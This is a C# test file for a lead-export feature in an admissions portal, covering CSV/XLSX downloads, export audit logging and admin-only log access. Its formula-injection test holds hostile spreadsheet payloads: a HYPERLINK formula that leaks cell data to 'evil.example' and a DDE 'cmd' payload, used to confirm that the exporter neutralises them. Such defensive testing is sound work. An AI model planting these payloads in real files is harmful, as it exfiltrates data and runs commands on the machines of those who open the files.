using Microsoft.EntityFrameworkCore;
using ProgramPortal.Identity;
using ProgramPortal.Leads;
using ProgramPortal.Leads.Export;
using ProgramPortal.Tests.Infrastructure;

namespace ProgramPortal.Tests.LeadsAdmin;

public class LeadExportTests(LeadApp app) : IClassFixture<LeadApp>
{
    private static readonly string[] Headings =
    [
        "Lead ID", "First name", "Last name", "Email", "Phone", "Country", "Track", "Start term", "Years of experience",
        "Status", "Source (UTM)", "Came in (UTC)", "Latest inquiry (UTC)", "Unsubscribed (UTC)", "Consent version",
    ];

    [Fact]
    public async Task The_download_links_on_a_filtered_list_give_exactly_its_leads_in_both_formats()
    {
        await app.CopyLeadsAsync(
        [
            LeadRecords.Make("Grace", "Hopper", app.DaysAgo(3), status: LeadStatus.Contacted, source: "spring-fair", country: "US"),
            LeadRecords.Make("José", "Ñúñez", app.DaysAgo(2), status: LeadStatus.Contacted, source: "spring-fair", country: "MX", track: TrackInterest.IS),
            LeadRecords.Make("小龙", "李", app.DaysAgo(1), status: LeadStatus.Contacted, source: "spring-fair", country: "CN", email: "li@example.cn"),
            LeadRecords.Make("Alan", "Turing", app.DaysAgo(1), status: LeadStatus.New, source: "spring-fair"),
            LeadRecords.Make("Ada", "Byron", app.DaysAgo(1), status: LeadStatus.Contacted, source: "autumn-fair"),
        ]);
        using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);

        var list = await admissions.GetAsync("/admin/leads?source=spring-fair&status=Contacted&sort=Oldest");
        Assert.Contains("3 leads", list.Text);
        var csvUrl = list.Document.QuerySelector("a[href^='/admin/leads/export/csv']")!.GetAttribute("href")!;
        var xlsxUrl = list.Document.QuerySelector("a[href^='/admin/leads/export/xlsx']")!.GetAttribute("href")!;
        Assert.Equal("/admin/leads/export/csv?status=Contacted&source=spring-fair&sort=Oldest", csvUrl);

        var csv = ExportFiles.ReadCsv(await admissions.DownloadAsync(csvUrl, "text/csv"));
        var xlsx = ExportFiles.ReadXlsx(await admissions.DownloadAsync(xlsxUrl, LeadExporter.ContentType(ExportFormat.Xlsx)));

        foreach (var rows in new[] { csv, xlsx })
        {
            Assert.Equal(Headings, rows[0]);
            Assert.Equal(["Hopper", "Ñúñez", "李"], rows.Skip(1).Select(r => r[2]));
            Assert.All(rows.Skip(1), r => Assert.Equal(Headings.Length, r.Length));
        }

        await using var db = app.NewDbContext();
        var jose = await db.Leads.SingleAsync(l => l.LastName == "Ñúñez");
        var csvJose = csv[2];
        Assert.Equal([jose.Id.ToString(), "José", "Ñúñez", "josé.ñúñez@example.com", "", "Mexico", "Information Systems (IS)",
            "Fall 2027", "5", "Contacted", "spring-fair", jose.CreatedAt.UtcDateTime.ToString("yyyy-MM-dd HH:mm"),
            jose.LastInquiryAt.UtcDateTime.ToString("yyyy-MM-dd HH:mm"), "", ConsentStatement.Version], csvJose);

        // The spreadsheet keeps numbers as numbers and times as real dates, and the text exactly.
        var xlsxJose = xlsx[2];
        Assert.Equal(jose.Id.ToString(), xlsxJose[0]);
        Assert.Equal(csvJose[1..8], xlsxJose[1..8]);
        Assert.Equal("5", xlsxJose[8]);
        Assert.Equal(jose.CreatedAt.UtcDateTime, ExportFiles.FromExcelDate(xlsxJose[11]), TimeSpan.FromMilliseconds(1));
    }

    [Fact]
    public async Task Values_that_a_spreadsheet_would_run_as_formulas_come_out_as_text_in_both_formats()
    {
        string[] hostile = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1",
            "\tTabbed", "\rReturned"];
        await app.CopyLeadsAsync(hostile.Select((value, i) =>
            LeadRecords.Make(value, "Hostile" + i, app.DaysAgo(1), email: $"hostile{i}@example.com", source: value, country: "NZ",
                phone: "+64 555 0100")));
        using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);

        var csv = ExportFiles.ReadCsv(await admissions.DownloadAsync("/admin/leads/export/csv?country=NZ&sort=Name", "text/csv"));
        var xlsx = ExportFiles.ReadXlsx(await admissions.DownloadAsync("/admin/leads/export/xlsx?country=NZ&sort=Name",
            LeadExporter.ContentType(ExportFormat.Xlsx)));

        foreach (var (rows, format) in new[] { (csv, "csv"), (xlsx, "xlsx") })
        {
            // XML turns a carriage return in cell text into a line feed (Excel reads it the same way);
            // what matters is the quote in front.
            var expected = hostile.Select(v => "'" + (format == "xlsx" ? v.Replace('\r', '\n') : v)).ToList();
            var data = rows.Skip(1).ToList();
            Assert.Equal(expected, data.Select(r => r[1]));
            Assert.Equal(expected, data.Select(r => r[10]));
            // An international phone number starts with "+" too: it is kept as text rather than summed.
            Assert.All(data, r => Assert.Equal("'+64 555 0100", r[4]));
            Assert.All(data, r => Assert.StartsWith("Hostile", r[2]));
        }
    }

    [Fact]
    public async Task Every_export_is_recorded_and_admins_see_who_took_which_leads()
    {
        await app.CopyLeadsAsync([LeadRecords.Make("Record", "Kept", app.DaysAgo(1), source: "logged-source", country: "CA")]);
        using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);
        await admissions.DownloadAsync("/admin/leads/export/xlsx?source=logged-source&country=ca", LeadExporter.ContentType(ExportFormat.Xlsx));

        await using (var db = app.NewDbContext())
        {
            var record = await db.LeadExports.OrderByDescending(e => e.Id).FirstAsync();
            Assert.StartsWith("admissions-", record.ExportedBy);
            Assert.Equal(ExportFormat.Xlsx, record.Format);
            Assert.Equal("?country=CA&source=logged-source", record.Filter);
            Assert.Equal(1, record.RowCount);
            Assert.NotNull(record.CompletedAt);
        }

        var denied = await admissions.GetAsync("/admin/staff/lead-exports");
        Assert.Equal("/admin/denied", denied.Url.AbsolutePath);

        using var admin = await app.LoginAsAsync(StaffRoles.Admin);
        var log = await admin.GetAsync("/admin/staff/lead-exports");
        var row = log.Document.QuerySelectorAll("table tr").First(r => r.TextContent.Contains("logged-source"));
        Assert.Contains("admissions-", row.TextContent);
        Assert.Contains("Excel", row.TextContent);
        Assert.Contains("Leads with country Canada, source \"logged-source\"; sorted by newest first", row.TextContent);
        Assert.Equal("/admin/leads?country=CA&source=logged-source", row.QuerySelector("a")!.GetAttribute("href"));
        Assert.EndsWith("1", row.QuerySelectorAll("td").Last().TextContent.Trim());
    }

    [Fact]
    public async Task An_unknown_format_is_not_found_and_a_mistyped_filter_still_exports()
    {
        using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);

        using var unknown = await admissions.Client.GetAsync("/admin/leads/export/pdf");
        Assert.Equal(System.Net.HttpStatusCode.NotFound, unknown.StatusCode);
        var rows = ExportFiles.ReadCsv(await admissions.DownloadAsync(
            "/admin/leads/export/csv?from=yesterday&status=Maybe&to=9999-12-31&country=ZZ&source=nobody-uses-this", "text/csv"));
        Assert.Equal(Headings, Assert.Single(rows));
    }
}
